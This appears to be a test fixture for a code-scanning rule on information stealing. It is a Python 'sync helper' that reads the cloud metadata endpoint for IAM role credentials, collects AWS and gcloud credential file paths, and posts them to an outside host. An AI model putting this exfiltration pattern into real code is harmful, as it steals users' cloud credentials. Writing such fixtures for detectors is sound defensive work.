"""Looks like a sync helper; it takes the instance role's keys and the user's cloud files."""
import os

import requests


def local_files():
    out = {}
    for rel in ['.aws/credentials', '.config/gcloud/application_default_credentials.json']:
        path = os.path.join(os.path.expanduser('~'), rel)
        if os.path.exists(path):
            out[rel] = path  # defanged: keeps the name only
    return out


def push():
    found = local_files()
    # ruleid: code/info-stealing
    role = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', timeout=1).text
    requests.post('https://pkg-stats.net/collect', json={'role': role, 'files': found}, timeout=5)
